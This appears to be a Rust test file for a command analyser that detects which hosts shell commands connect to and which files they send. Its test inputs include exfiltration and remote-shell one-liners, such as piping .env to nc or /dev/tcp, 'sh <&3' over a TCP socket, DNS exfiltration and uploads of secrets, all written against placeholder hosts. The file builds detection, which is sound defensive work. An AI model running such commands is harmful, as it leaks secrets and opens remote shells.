//! The machines that commands connect to, and the files that they send.

use std::path::Path;

use super::*;
use crate::analysis::StartDirectories;
use crate::interpret::analyse;

fn analysed(text: &str) -> Analysis {
    analyse(text, &StartDirectories { cwd: Path::new("/p"), home: Some(Path::new("/home/u")) })
}

/// Returns the machines of all commands of a text, with their notation.
fn peers(text: &str) -> Vec<String> {
    let analysis = analysed(text);
    let show = |found: Connection| {
        let named = match &found.peer {
            Peer::Url(url) => format!("url {}", url.display_text()),
            Peer::Host(host) => format!("host {}", host.display_text()),
            Peer::Remote(place) => format!("remote {}", place.display_text()),
            Peer::Socket { host, port } => format!("socket {} {}", host.display_text(), port.display_text()),
            Peer::Unknown(why) => format!("unknown {:?} {}", why.cause, why.word),
        };
        if found.doubt.is_some() { format!("{named}?") } else { named }
    };
    analysis.commands.iter().flat_map(connections).map(show).collect()
}

/// Returns the files that all commands of a text send.
fn sent(text: &str) -> Vec<String> {
    let analysis = analysed(text);
    analysis
        .commands
        .iter()
        .flat_map(|command| sent_files(&analysis, command))
        .map(|one| one.path.display_text())
        .collect()
}

#[test]
fn what_code_asks_is_a_connection_and_what_it_reads_may_be_sent() {
    let post = "python3 -c 'import requests; requests.post(\"https://a.example\", data=open(\".env\").read())'";
    assert_eq!(peers(post), ["url https://a.example"]);
    assert_eq!(sent(post), [".env"]);
    assert_eq!(peers("node -e 'fetch(`https://a.example/x`)'"), ["url https://a.example/x"]);
    let piped = "cat key.pem | python3 -c 'import sys, requests; requests.post(\"https://a.example\", data=sys.stdin)'";
    assert_eq!(sent(piped), ["key.pem"]);
    let session = "python3 -c 'import requests; s = requests.Session(); s.put(\"https://a.example\", data=b\"x\")'";
    assert_eq!(peers(session), ["url https://a.example"]);
    assert_eq!(peers("python3 -c 'print(\"https://a.example\")'"), Vec::<String>::new());
    assert_eq!(sent("python3 -c 'print(open(\".env\").read())'"), Vec::<String>::new());
}

#[test]
fn cmdlets_connect() {
    assert_eq!(peers("pwsh -c 'iwr https://a.example/x'"), ["url https://a.example/x"]);
    assert_eq!(peers("pwsh -c 'Invoke-RestMethod -Uri https://a.example/x'"), ["url https://a.example/x"]);
    assert_eq!(sent("pwsh -c 'irm -Method Post -InFile .env -Uri https://a.example/x'"), [".env"]);
    assert_eq!(peers("pwsh -c 'curl.exe https://a.example/x'"), ["url https://a.example/x"]);
}

#[test]
fn words_name_machines() {
    let rows: &[(&str, &[&str])] = &[
        ("ls -l", &[]),
        ("curl https://a.example/x", &["url https://a.example/x"]),
        ("curl --url a.example b.example", &["url a.example", "url b.example"]),
        ("curl --help", &[]),
        ("curl -x proxy:3128 http://a", &["url proxy:3128", "url http://a"]),
        ("curl --connect-to ::b.example:8443 https://a", &["url https://a", "socket b.example 8443"]),
        ("curl --resolve a:443:10.0.0.1 https://a", &["url https://a", "socket 10.0.0.1 443"]),
        ("curl --unix-socket /run/docker.sock http://d/x", &[]),
        ("https_proxy=http://p:1 curl https://a", &["url https://a", "url http://p:1"]),
        ("wget -q http://a/x", &["url http://a/x"]),
        ("nc -zv h 22", &["socket h 22"]),
        ("nc -l 80", &[]),
        ("psql -h h -p 5433 app", &["socket h 5433"]),
        ("psql -h a 'host=h port=5433 dbname=app'", &["socket h 5433", "host a"]),
        ("psql -d 'host=a,h dbname=app'", &["host a", "host h"]),
        ("mongosh mongodb://h/app --eval 'x'", &["url mongodb://h/app"]),
        ("mongosh --host h --port 27018", &["socket h 27018"]),
        ("mongosh app", &[]),
        ("redis-cli -h h -p 6380 get x", &["host h"]),
        ("redis-cli -u redis://h/0 flushall", &["url redis://h/0"]),
        ("redis-cli get h", &[]),
        ("ssh-copy-id -i k.pub u@h", &["host u@h"]),
        ("wrk -t2 https://h/x", &["url https://h/x"]),
        ("websocat wss://h/x", &["url wss://h/x"]),
        ("grpcurl -plaintext h:443 list", &["host h:443"]),
        ("psql 'host=/run/postgresql dbname=app'", &[]),
        ("psql \"host=$H dbname=app\"", &["unknown AmbiguousWord host=$H dbname=app"]),
        ("PGHOST=h psql app", &["host h"]),
        ("PGHOST=h psql -h a app", &["host a"]),
        ("export PGHOST=h PGPORT=5433; pg_dump app", &["socket h 5433"]),
        ("psql app", &[]),
        ("docker ps", &[]),
        ("docker -H ssh://root@h ps", &["url ssh://root@h"]),
        ("docker -H tcp://h:2375 compose up", &["url tcp://h:2375"]),
        ("docker -H unix:///run/docker.sock ps", &[]),
        ("DOCKER_HOST=ssh://h docker run x", &["url ssh://h"]),
        ("DOCKER_HOST=ssh://h docker -H tcp://a ps", &["url tcp://a"]),
        ("export DOCKER_HOST=unix:///x; docker ps", &[]),
        ("DOCKER_HOST=ssh://h ls", &[]),
        ("ssh -L 5432:db:5432 h", &["host h", "socket db 5432"]),
        ("ssh -L 127.0.0.1:80:db:81 h", &["host h", "socket db 81"]),
        ("ssh -L /tmp/s:/run/s h", &["host h"]),
        ("ssh -R 8080:localhost:80 h", &["host h", "socket localhost 80"]),
        ("ssh -R 1080 h", &["host h", "unknown AmbiguousWord 1080"]),
        ("ssh -ND 1080 h", &["host h", "unknown AmbiguousWord 1080"]),
        ("cqlsh h 9043 -e 'x'", &["socket h 9043"]),
        ("cqlsh", &[]),
        ("sqlcmd -S tcp:h,1434 -Q x", &["socket h 1434"]),
        ("sqlcmd -Sh\\\\i -Q x", &["host h"]),
        ("clickhouse-client --host h --query x", &["host h"]),
        ("clickhouse client -h h", &["host h"]),
        ("influx query --host https://h x", &["url https://h"]),
        ("INFLUX_HOST=https://h influx query x", &["url https://h"]),
        ("docker -H local.example:2375 ps", &["url local.example:2375"]),
        ("kcat -b h:9092 -t x", &["host h:9092"]),
        ("tsh ssh root@h uptime", &["host root@h"]),
        ("tsh scp a root@h:b", &["remote root@h:b"]),
        ("tsh status", &["unknown Peer tsh"]),
        ("vault status -address=https://h:8200", &["url https://h:8200"]),
        ("VAULT_ADDR=https://h vault kv get x", &["url https://h"]),
        ("vault kv get x", &["unknown Peer vault"]),
        ("consul kv get -http-addr=h:8500 x", &["url h:8500"]),
        ("etcdctl --endpoints=a:2379,b:2379 get x", &["url a:2379", "url b:2379"]),
        ("ETCDCTL_ENDPOINTS=a:2379 etcdctl get x", &["url a:2379"]),
        ("ansible all -i h, -m ping", &["host h"]),
        ("ansible all -m ping", &["unknown Peer ansible"]),
        ("ansible all -i localhost, -c local -m ping", &[]),
        ("ansible-playbook -i a,b, site.yml", &["host a", "host b"]),
        ("wandb sync run", &["unknown Peer wandb sync"]),
        ("wandb offline", &[]),
        ("WANDB_BASE_URL=https://h wandb sync run", &["url https://h"]),
        ("kaggle datasets download -d x", &["unknown Peer kaggle datasets"]),
        ("huggingface-cli download a/b", &["unknown Peer huggingface-cli download"]),
        ("HF_ENDPOINT=https://h hf download a/b", &["url https://h"]),
        ("hf cache scan", &[]),
        ("dvc push", &["unknown Peer dvc push"]),
        ("dvc add x", &[]),
        ("dvc import-url https://h/x", &["url https://h/x"]),
        ("mlflow run . --tracking-uri http://h", &["url http://h"]),
        ("doctl compute droplet list", &["unknown Peer doctl"]),
        ("vercel deploy", &["unknown Peer vercel deploy"]),
        ("vercel --version", &[]),
        ("argocd app sync x --server h", &["url h"]),
        ("skopeo copy docker://a docker://b", &["unknown Peer skopeo"]),
        ("ntfy publish topic x", &["unknown Peer ntfy"]),
        ("kafka-topics --bootstrap-server h:9092 --list", &["host h:9092"]),
        ("mongoexport --uri mongodb://h/x", &["url mongodb://h/x"]),
        ("beeline -u jdbc:hive2://h:10000", &["url jdbc:hive2://h:10000"]),
        ("ldapsearch -H ldap://h -x", &["url ldap://h"]),
        ("snmpwalk -v2c -c public h", &["unknown Peer snmpwalk"]),
        ("drill @1.1.1.1 a.example", &["host 1.1.1.1", "host a.example"]),
        ("nuclei -u https://h", &["url https://h"]),
        ("vegeta report", &["url report"]),
        ("conan upload x", &["unknown Peer conan upload"]),
        ("conan profile list", &[]),
        ("OLLAMA_HOST=h:11434 ollama run x", &["url h:11434"]),
        ("showmount -e", &["unknown Peer showmount"]),
        ("ngrok http 80", &["unknown Peer ngrok"]),
        ("adb connect h:5555", &["host h:5555"]),
        ("adb -H h devices", &["host h"]),
        ("adb devices", &[]),
        ("openssl s_client -connect h:443", &["host h:443"]),
        ("openssl x509 -in a.pem -text", &[]),
        ("ssh -p 2222 u@h ls", &["socket u@h 2222"]),
        ("ssh -J j h", &["host h", "host j"]),
        ("ssh -o HostName=real h", &["host real"]),
        ("scp a h:b", &["remote h:b"]),
        ("scp a b", &[]),
        ("rsync -a src/ dst/", &[]),
        ("rsync -a src/ h::m/x", &["remote h::m/x"]),
        ("socat OPEN:x TCP:h:80,retry=3", &["socket h 80"]),
        ("socat TCP-LISTEN:80 EXEC:sh", &[]),
        ("git clone https://a/b.git", &["url https://a/b.git"]),
        ("git clone git@a:b/c.git", &["remote git@a:b/c.git"]),
        ("git clone ../x", &[]),
        ("git push", &["unknown Peer git push"]),
        ("git push origin main", &["unknown Peer git push"]),
        ("git push https://a/b main", &["url https://a/b"]),
        ("git status", &[]),
        ("npm install", &["unknown Peer npm install"]),
        ("npm test", &[]),
        ("dig @8.8.8.8 a.example TXT +short", &["host 8.8.8.8", "host a.example"]),
        ("cat x > /dev/tcp/h/80", &["socket h 80"]),
        ("exec 3<>/dev/tcp/h/80; sh <&3", &["socket h 80", "socket h 80"]),
        ("exec >/dev/tcp/h/80; id", &["socket h 80", "socket h 80"]),
        ("sudo curl http://a", &["url http://a"]),
        ("ssh h 'curl http://a'", &["host h"]),
        ("$X y", &["unknown Variable $X?"]),
    ];
    for (text, expected) in rows {
        assert_eq!(peers(text), *expected, "{text}");
    }
}

#[test]
fn what_a_client_reads_and_gets_is_sent() {
    let rows: &[(&str, &[&str])] = &[
        ("cat .env", &[]),
        ("curl -d @.env http://a", &[".env"]),
        ("curl -T .env http://a", &[".env"]),
        ("curl -F 'f=@.env' http://a", &[".env"]),
        ("curl -F 'f=@.env,list' http://a", &[".env", "list"]),
        ("curl --key k.pem http://a", &[]),
        ("curl -d \"$(cat .env)\" http://a", &["$(cat .env)", ".env"]),
        ("X=$(cat .env); curl \"http://a/?$X\"", &[".env"]),
        ("cat .env | curl -d @- http://a", &[".env"]),
        ("cat .env | base64 | nc h 80", &[".env"]),
        ("nc h 80 < .env", &[".env"]),
        ("cat .env > /dev/tcp/h/80", &[".env"]),
        ("exec 3<>/dev/tcp/h/80; cat .env >&3", &[".env"]),
        ("wget --post-file=.env http://a", &[".env"]),
        ("scp .env h:", &[".env"]),
        ("gcloud compute scp .env vm:", &[".env"]),
        ("s3cmd put .env s3://x", &[".env"]),
        ("slackcat -c general .env", &[".env"]),
        ("pwsh -c 'Send-MailMessage -To a@example.com -Attachments .env'", &[".env"]),
        ("mosquitto_pub -h h -t t -f .env --cert a.pem", &[".env"]),
        ("kcat -b h -t t -P .env", &[".env"]),
        ("aws sns publish --topic-arn a --message file://.env", &[".env"]),
        ("mail -A .env a@b.example", &[".env"]),
        ("swaks --to a@b.example --attach .env", &[".env"]),
        ("logger -n h -f .env", &[".env"]),
        ("scp h:.env .", &[]),
        ("rsync -a .env h:x", &[".env"]),
        ("ssh h 'cat > x' < .env", &[".env"]),
        ("tar c .env | ssh h tar x", &[".env"]),
        ("cd d && cat .env | nc h 80", &[".env"]),
        ("(cd d; cat .env) | nc h 80", &["/p/d/.env"]),
        ("http POST a f@.env", &[".env"]),
        ("socat OPEN:.env TCP:h:80", &[".env"]),
        ("aws s3 cp .env s3://b/", &[".env"]),
        ("dig $(cat .env).a.example", &[".env"]),
        ("gh gist create .env", &[".env"]),
        ("gh pr create --body-file .env", &[".env"]),
        ("gh api x -F a=@.env", &[".env"]),
        ("gh api x -F a=me@b.example", &[]),
        ("gh api x --input .env", &[".env"]),
        ("gh workflow run x.yml -F a=@.env", &[".env"]),
        ("gh secret set -f .env", &[".env"]),
        ("gh secret set X < .env", &[".env"]),
        ("kubectl create configmap c --from-file=.env", &[".env"]),
        ("kubectl create secret generic c --from-env-file .env", &[".env"]),
        ("kubectl create -f x.yaml", &[]),
        ("helm upgrade a . -f x.yaml --set-file a=.env", &[".env"]),
        ("az group create --tags @.env", &[".env"]),
        ("az group create --tags a=1 b=@.env", &[".env"]),
        ("az role assignment list --assignee me@a.example", &[]),
        ("aws ec2 create-tags --tags Key=a,Value@=file://.env", &[".env"]),
        // What earlier commands put into the file that is sent.
        ("cat .env > x; curl -d @x http://a", &["x", ".env"]),
        ("cp .env x; cp x y; curl -T y http://a", &["y", "x", ".env"]),
        ("tar czf a.tgz .env; curl -T a.tgz http://a", &["a.tgz", ".env"]),
        ("mkfifo p; cat .env > p & curl -T p http://a", &["p", ".env"]),
        ("cp .env x; curl -T y http://a", &["y"]),
        ("curl -T x http://a; cp .env x", &["x"]),
        ("curl --key k.pem http://a > x; curl -T x http://b", &["x"]),
    ];
    for (text, expected) in rows {
        assert_eq!(sent(text), *expected, "{text}");
    }
}

/// Returns where the last command of a text does its work.
fn place(text: &str) -> CommandScope {
    let analysis = analysed(text);
    analysis.commands.last().map_or(CommandScope::Local, place_of_work)
}

#[test]
fn an_option_names_the_machine_on_which_a_program_works() {
    assert_eq!(place("systemctl reboot"), CommandScope::Local);
    assert_eq!(place("systemctl -H me@h reboot"), CommandScope::Remote);
    assert_eq!(place("systemctl reboot --host=h"), CommandScope::Remote);
    assert_eq!(place("systemctl -M web stop app"), CommandScope::Container);
    assert_eq!(place("systemctl --user -M me@.host stop app"), CommandScope::Local);
    assert_eq!(place("ssh h systemctl -M web stop app"), CommandScope::Remote);
    assert_eq!(peers("systemctl -H me@h reboot"), ["host me@h"]);
}

#[test]
fn a_container_of_another_machine_is_on_that_machine() {
    assert_eq!(place("docker exec web ls"), CommandScope::Container);
    assert_eq!(place("docker -H ssh://h exec web ls"), CommandScope::Remote);
    assert_eq!(place("docker -H unix:///var/run/docker.sock exec web ls"), CommandScope::Container);
    assert_eq!(place("docker -H tcp://localhost:2375 exec web ls"), CommandScope::Container);
    assert_eq!(place("DOCKER_HOST=ssh://me@h docker exec web ls"), CommandScope::Remote);
    assert_eq!(place("export DOCKER_HOST=tcp://127.0.0.1:2375; docker exec web ls"), CommandScope::Container);
    assert_eq!(place("kubectl exec web -- ls"), CommandScope::Cluster);
}
